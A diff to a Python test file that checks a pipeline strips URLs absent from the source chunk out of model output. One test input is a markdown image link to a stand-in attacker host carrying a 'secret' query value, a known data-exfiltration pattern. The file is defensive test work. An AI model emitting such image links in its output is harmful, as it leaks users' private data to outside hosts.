@@ -230,3 +230,25 @@ def test_product_path_opens_sockets_only_to_the_model_server(tmp_path: Path) -> 
     assert f"CONNECTIONS [('127.0.0.1', {server.port})]" in done.stderr
     assert server.requests > 0
     assert json.loads((tmp_path / "out/manifest.json").read_text())["failures"] == []
+
+
+# --------------------------------------------------------------------- row 16 (code side)
+
+
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [
+        ("see ![x](https://evil.example/p.png?d=secret)", False),
+        ("visit www.leaky.io/q=summary now", False),
+        ("the domain stats.badsite.com counts readers", False),
+        ("as https://known.org/page says", True),  # in the chunk: kept
+    ],
+)
+def test_map_output_loses_addresses_the_chunk_does_not_contain(text: str, kept: bool) -> None:
+    from pipeline.map_stage import without_foreign_urls
+
+    chunk = "The speaker cites https://known.org/page about harbours."
+    cleaned = without_foreign_urls(text, chunk)
+    assert ("known.org" in cleaned) is kept
+    for host in ("evil.example", "leaky.io", "badsite.com"):
+        assert host not in cleaned
